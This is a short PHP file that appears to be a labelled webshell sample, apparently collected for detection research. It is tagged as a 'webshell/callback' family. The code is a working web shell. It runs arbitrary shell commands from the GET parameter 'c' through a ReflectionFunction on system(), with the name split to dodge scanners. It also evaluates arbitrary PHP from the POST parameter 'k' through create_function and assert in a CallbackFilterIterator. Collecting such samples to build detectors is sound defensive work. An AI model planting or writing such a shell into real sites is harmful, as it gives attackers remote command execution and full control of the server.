<?php
// Family: webshell/callback
// Style: evaluator wrapped in a handle that other code calls later
// Trait: ReflectionFunction on a command function invoked with request data; a lambda whose body only evaluates its parameter, handed to an iterator
$rf = new ReflectionFunction('sys' . 'tem');
echo $rf->invokeArgs(array($_GET['c']));
$it = new CallbackFilterIterator(new ArrayIterator(array($_POST['k'])), create_function('$v', 'return assert($v);'));
foreach ($it as $x) {
	echo $x;
}
